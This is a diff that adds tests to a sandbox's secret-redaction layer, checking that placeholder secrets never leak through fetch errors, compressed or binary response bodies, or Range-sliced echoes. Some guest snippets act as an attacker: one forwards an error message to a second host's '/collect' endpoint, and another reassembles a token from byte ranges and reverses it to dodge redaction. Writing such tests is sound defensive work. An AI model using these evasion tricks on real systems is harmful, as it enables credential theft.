@@ -102,6 +102,82 @@ afterAll(async () => {
   await cleanup?.();
 });
 
+describe("fetch errors never carry a substituted secret (finding 1)", () => {
+  const cases = [
+    { name: "connection refused", url: () => `http://127.0.0.1:${dead}/p/" + secret("QUIRKY") + "?k=" + secret("QUIRKY") + "` },
+    { name: "request timeout", url: () => `${api.origin}/hang?k=" + secret("QUIRKY") + "` },
+  ];
+  it.each(cases)("$name: the message names the request as written, and forwarding it leaks nothing", async ({ url }) => {
+    const before = other.requests.length;
+    const reply = await env.call("run_code", {
+      code: `import { secret } from "toolsmith";
+let message = "no error";
+try { await fetch("${url()}"); } catch (e) { message = String(e.message); }
+// Sent on to a host the secret is not bound to (refused if it still holds the placeholder).
+await fetch("${other.origin}/collect", { method: "POST", body: message }).catch(() => undefined);
+export default message;`,
+    });
+    expect(reply.isError, reply.text).toBe(false);
+    const forwarded = other.requests.slice(before).map((r) => r.body).join("\n");
+    expect(leaks(forwarded, QUIRKY), forwarded).toEqual([]);
+    expect(leaks(reply.text, QUIRKY), reply.text).toEqual([]);
+    expect(reply.body.result).toContain("tsm_secret_QUIRKY_");
+  });
+});
+
+describe("response bodies reach the guest only redacted (finding 2)", () => {
+  const bearer = (path: string, init = "") => `import { secret } from "toolsmith";
+const r = await fetch("${api.origin}${path}", { headers: { Authorization: "Bearer " + secret("API_TOKEN")${init} } });
+const bytes = new Uint8Array(await r.arrayBuffer());
+export default { status: r.status, encoding: r.headers.get("content-encoding"), bytes: Array.from(bytes) };`;
+
+  /** What the guest got, decompressed the way a guest that inflates by itself would. */
+  const received = (result: { encoding: string | null; bytes: number[] }) => {
+    const raw = Buffer.from(result.bytes);
+    return result.encoding === "gzip" ? gunzipSync(raw).toString("latin1") : raw.toString("latin1");
+  };
+
+  it("a guest asking for gzip gets the host-decoded, redacted body", async () => {
+    const reply = await env.call("run_code", { code: bearer("/echo-negotiated", ', "Accept-Encoding": "gzip"') });
+    expect(reply.isError, reply.text).toBe(false);
+    const body = received(reply.body.result);
+    expect(leaks(body, TOKEN)).toEqual([]);
+    expect(body).toBe("auth=Bearer [secret:API_TOKEN]");
+  });
+
+  it.each(["gzip", "deflate", "br"])("a server that sends Content-Encoding %s regardless is decoded on the host", async (enc) => {
+    const reply = await env.call("run_code", { code: bearer(`/echo-forced?enc=${enc}`) });
+    expect(reply.isError, reply.text).toBe(false);
+    expect(reply.body.result.encoding).toBeNull();
+    expect(Buffer.from(reply.body.result.bytes).toString("utf8")).toBe("auth=Bearer [secret:API_TOKEN]");
+  });
+
+  it("binary bodies are redacted in every form: raw, hex, base64, URL-encoded", async () => {
+    const reply = await env.call("run_code", { code: bearer("/echo-binary") });
+    expect(reply.isError, reply.text).toBe(false);
+    const body = Buffer.from(reply.body.result.bytes).toString("latin1");
+    expect(leaks(body, TOKEN), body).toEqual([]);
+    expect(body.toUpperCase()).not.toContain(Buffer.from(TOKEN).toString("hex").toUpperCase());
+    expect(body).toContain("[secret:API_TOKEN]");
+  });
+
+  it("a Range request to a host a secret is bound to is refused, so no slice of an echo escapes redaction", async () => {
+    const reply = await env.call("run_code", {
+      code: `import { secret } from "toolsmith";
+const parts = [];
+for (let at = 0; at < 40; at += 3) {
+  const r = await fetch("${api.origin}/echo-range", { headers: { Authorization: "Bearer " + secret("API_TOKEN"), Range: "bytes=" + at + "-" + (at + 2) } });
+  parts.push(await r.text());
+}
+// Reversed, so that redacting the run's result cannot hide what the guest got.
+export default parts.join("").split("").reverse().join("");`,
+    });
+    expect(reply.text).not.toContain([...TOKEN].reverse().join(""));
+    expect(reply.isError, reply.text).toBe(true);
+    expect(reply.body.error.message).toContain("Range");
+  });
+});
+
 describe("a secret bound to a host goes over https, to its port, unless said otherwise (finding 6)", () => {
   it("refuses plain http and other ports to a bare host, before anything is sent", async () => {
     for (const url of ["http://192.0.2.1/", "https://192.0.2.1:8443/"]) {
